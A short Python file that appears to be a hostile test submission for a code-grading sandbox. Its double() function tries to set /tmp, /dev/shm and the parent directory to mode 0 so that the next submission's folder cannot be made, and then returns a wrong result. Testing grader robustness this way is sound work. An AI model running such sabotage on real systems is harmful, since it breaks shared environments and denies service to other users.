"""Shuts the folder in which the next submission's folder would be made."""

import os
import time

EXPECTS = "double(x) is not twice x"


def double(x):
    for path in ("/tmp", "/dev/shm", ".."):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    time.sleep(0.5)  # the size of the folders is looked at in this time
    return x
